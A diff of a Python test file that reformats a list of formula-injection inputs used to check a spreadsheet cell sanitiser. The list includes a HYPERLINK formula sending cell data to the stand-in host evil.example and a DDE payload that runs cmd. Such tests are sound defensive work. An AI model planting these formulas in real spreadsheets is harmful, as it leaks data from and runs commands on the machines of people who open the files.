@@ -20,7 +20,14 @@ from portal.core.spreadsheet import safe_cell
 from tests.dashboards.dash_world import dash, june_morning  # noqa: F401
 from tests.dashboards.test_pages import get
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
